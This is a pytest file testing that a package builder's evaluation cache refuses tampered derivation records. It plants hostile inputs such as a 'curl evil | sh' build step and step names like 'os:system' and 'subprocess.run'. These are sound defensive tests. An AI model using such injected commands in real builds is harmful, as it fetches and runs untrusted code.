"""Derivations in an evaluation cache entry (issue 34, item 4): a build after gc skips evaluation;
what the entry says is data, checked, and never runs code it names unless that code is cudapkgs'
own and is the very step the derivation's hash covers."""

from __future__ import annotations

import json
import sys

import pytest

from cudapkgs.builders import python_install, rewired_wheel_steps
from cudapkgs.derivation import Derivation
from cudapkgs.evalcache.derivations import NotKept, decode_plan, encode_plan
from cudapkgs.evalcache.entry import decode, encode
from cudapkgs.stdenv.generic import python_step

from test_eval_cache import PACKAGE_FILE, Cli, hit

STORE = "/tmp/cudapkgs-test-store"


def _drv(name: str, *, step=None, deps=(), context=None) -> Derivation:
    attrs = {"buildPhase": "true"}
    ctx = dict(context or {})
    if step is not None:
        attrs["installPhase"] = python_step(step)
        ctx["python"] = {"installPhase": step}
    inputs = {f"{d.name}.out": d.outputs["out"] for d in deps}
    return Derivation(store_dir=STORE, name=name, system="x86_64-linux", outputs=["out"], builder="mkDerivation",
                      src=None, input_paths=inputs, attrs=attrs, deps=list(deps), context=ctx)


def _plan() -> tuple[Derivation, str]:
    dep = _drv("dep-1.0", context={"fetchers": ["redist", "wheels"], "srcPath": None, "patchPaths": []})
    root = _drv("root-1.0", step=python_install.install, deps=[dep], context={"slowBuild": None})
    return root, encode_plan(STORE, [("root", root)], ["redist", "wheels"])


def test_derivations_read_back_are_the_evaluated_ones_with_their_steps():
    root, text = _plan()
    store_dir, roots, fetchers, output = decode_plan(text)
    assert store_dir == STORE and fetchers == ["redist", "wheels"]
    ((label, back),) = roots
    assert label == "root" and back.drv_path == root.drv_path and back.outputs == root.outputs
    assert back.context["python"] == {"installPhase": python_install.install}
    assert [d.drv_path for d in back.closure()] == [d.drv_path for d in root.closure()]
    assert back.deps[0].context == {"fetchers": ["redist", "wheels"], "srcPath": None, "patchPaths": []}


def _edit(text: str, change) -> str:
    data = json.loads(text)
    change(data)
    return json.dumps(data)


@pytest.mark.parametrize("name", ["os:system", "cudapkgs_evil_module:step", "cudapkgs.builders.python_install:<lambda>",
                                  "cudapkgs.builders.rewired_wheel_steps:install", "cudapkgs.nothing_here:x",
                                  "cudapkgs.builders.python_install:install.__globals__", "cudapkgs..x:y",
                                  "cudapkgs.builders.python_install:subprocess.run", "cudapkgs.evalcache.lookup:answer"])
def test_a_step_named_otherwise_than_evaluated_is_refused(name, tmp_path, monkeypatch):
    marker = tmp_path / "imported"
    (tmp_path / "cudapkgs_evil_module.py").write_text(f"open({str(marker)!r}, 'w').close()\ndef step(*a): pass\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    _, text = _plan()
    planted = _edit(text, lambda d: d["drvs"][1]["context"].__setitem__("python", {"installPhase": name}))
    if name == "cudapkgs.builders.python_install:subprocess.run":  # the hashed record made to match what it resolves to
        import subprocess

        record = python_step(subprocess.run)
        data = json.loads(planted)
        data["drvs"][1]["drv"] = _drv("root-1.0", step=None, deps=[]).to_json()  # placeholder, replaced below
        root = Derivation(store_dir=STORE, name="root-1.0", system="x86_64-linux", outputs=["out"],
                          builder="mkDerivation", src=None, input_paths=json.loads(text)["drvs"][1]["drv"]["inputs"],
                          attrs={"buildPhase": "true", "installPhase": record})
        data["drvs"][1]["drv"] = root.to_json()
        planted = json.dumps(data)
    with pytest.raises(ValueError):
        decode_plan(planted)
    assert not marker.exists() and "cudapkgs_evil_module" not in sys.modules


@pytest.mark.parametrize("damage", ["edited attrs", "forward dep", "self dep", "context object", "other format",
                                    "root out of range", "not json", "store relative", "output"])
def test_damaged_derivations_are_refused(damage):
    _, text = _plan()
    changes = {
        "edited attrs": lambda d: d["drvs"][0]["drv"]["attrs"].__setitem__("buildPhase", "curl evil | sh"),
        "forward dep": lambda d: d["drvs"][0].__setitem__("deps", [1]),
        "self dep": lambda d: d["drvs"][1].__setitem__("deps", [1]),
        "context object": lambda d: d["drvs"][0]["context"].__setitem__("fetchers", {"a": 1}),
        "other format": lambda d: d.__setitem__("format", 99),
        "root out of range": lambda d: d.__setitem__("roots", [["root", 7]]),
        "store relative": lambda d: d.__setitem__("store", "store"),
        "output": lambda d: d.__setitem__("output", [["3", "x"]]),
    }
    planted = text[: len(text) // 2] if damage == "not json" else _edit(text, changes[damage])
    with pytest.raises(ValueError):
        decode_plan(planted)


def test_steps_and_contexts_that_are_not_data_are_not_kept():
    def local_step(*args):
        pass

    with pytest.raises(NotKept):
        encode_plan(STORE, [("x", _drv("x-1", step=local_step))], [])
    with pytest.raises(NotKept):
        encode_plan(STORE, [("x", _drv("x-1", context={"fetchers": ("a",), "thing": object()}))], [])
    assert encode_plan(STORE, [("x", _drv("x-1", step=rewired_wheel_steps.install))], [])  # a cudapkgs function


# --- the command -------------------------------------------------------------------------------

# The package file says so when it runs (output the evaluation printed: written again with the
# derivations) and counts its runs in a file beside the working directory (the evaluation ran).
LOUD = ("import os, sys\nprint('evaluating pkgs.py', file=sys.stderr)\n"
        "with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'runs'), 'a') as f:\n"
        "    f.write('x')\n") + PACKAGE_FILE


def _runs(cli: Cli) -> int:
    try:
        return len((cli.cwd.parent / "runs").read_text())
    except FileNotFoundError:
        return 0


def _gc(tmp_path) -> None:
    import shutil
    import subprocess

    subprocess.run(["chmod", "-R", "u+w", str(tmp_path / "store")], check=True)
    shutil.rmtree(tmp_path / "store")


def _derivations_kept(cli: Cli, args) -> str:
    """Build until the run that built also kept its derivations (an input written a moment ago is not trusted)."""
    for _ in range(8):
        done = cli(*args)
        if "eval cache: stored derivations" in done.stderr:
            return done.stdout
        _gc(cli.cwd.parent)
    raise AssertionError(done.stderr)


def test_a_build_after_gc_builds_without_evaluating(tmp_path):
    cli = Cli(tmp_path)
    (cli.cwd / "pkgs.py").write_text(LOUD)
    args = ("build", "-f", "pkgs.py", "tiny", "--no-link")
    cli(*args)  # the compiler's probe starts a process: nothing kept
    _gc(tmp_path)
    out = _derivations_kept(cli, args)
    _gc(tmp_path)
    runs = _runs(cli)
    again = cli(*args)
    assert "eval cache: derivations\n" in again.stderr and _runs(cli) == runs, again.stderr
    assert again.stdout == out and "built tiny" in again.stderr
    # what the evaluation printed is printed again, before the build
    assert again.stderr.index("evaluating pkgs.py") < again.stderr.index("built tiny")
    noop = cli(*args)  # nothing left to do: a no-op entry holding the derivations again
    assert _runs(cli) == runs and "eval cache: stored" in noop.stderr, noop.stderr
    answered = cli(*args)
    assert hit(answered) and "evaluating pkgs.py" in answered.stderr
    _gc(tmp_path)  # gone again: built from that entry's derivations
    third = cli(*args)
    assert "eval cache: derivations\n" in third.stderr and _runs(cli) == runs
    assert third.stdout == out


def test_a_changed_package_file_after_gc_is_evaluated(tmp_path):
    cli = Cli(tmp_path)
    (cli.cwd / "pkgs.py").write_text(LOUD)
    args = ("build", "-f", "pkgs.py", "tiny", "--no-link")
    cli(*args)
    _gc(tmp_path)
    out = _derivations_kept(cli, args)
    _gc(tmp_path)
    (cli.cwd / "pkgs.py").write_text(LOUD.replace("echo hi", "echo bye"))
    runs = _runs(cli)
    done = cli(*args)
    assert _runs(cli) == runs + 1 and "eval cache: no derivations (changed:" in done.stderr
    assert done.stdout != out
    with open(done.stdout.strip() + "/hi") as handle:
        assert handle.read() == "bye\n"


@pytest.mark.parametrize("damage", ["garbage", "step outside cudapkgs", "edited derivation"])
def test_planted_derivations_are_not_built(tmp_path, damage):
    cli = Cli(tmp_path)
    (cli.cwd / "pkgs.py").write_text(LOUD)
    (cli.cwd / "evil_step.py").write_text("open('EVIL', 'w').close()\ndef step(*a): pass\n")
    args = ("build", "-f", "pkgs.py", "tiny", "--no-link")
    cli(*args)
    _gc(tmp_path)
    out = _derivations_kept(cli, args)
    _gc(tmp_path)
    (entry,) = cli.entries()
    fields = decode(entry.read_bytes())

    def change(payload: str) -> str:
        if damage == "garbage":
            return "{" + payload[:100]
        data = json.loads(payload)
        if damage == "step outside cudapkgs":
            data["drvs"][-1]["context"]["python"] = {"installPhase": "evil_step:step"}
        else:
            data["drvs"][-1]["drv"]["attrs"]["installPhase"] = 'mkdir -p "$out"; echo planted > "$out/hi"'
        return json.dumps(data)

    entry.write_bytes(encode([(t, change(p) if t == "D" else p) for t, p in fields]))
    runs = _runs(cli)
    done = cli(*args)
    assert _runs(cli) == runs + 1 and "no derivations (derivations not used" in done.stderr, done.stderr
    assert done.stdout == out and not (cli.cwd / "EVIL").exists()
    with open(done.stdout.strip() + "/hi") as handle:
        assert handle.read() == "hi\n"
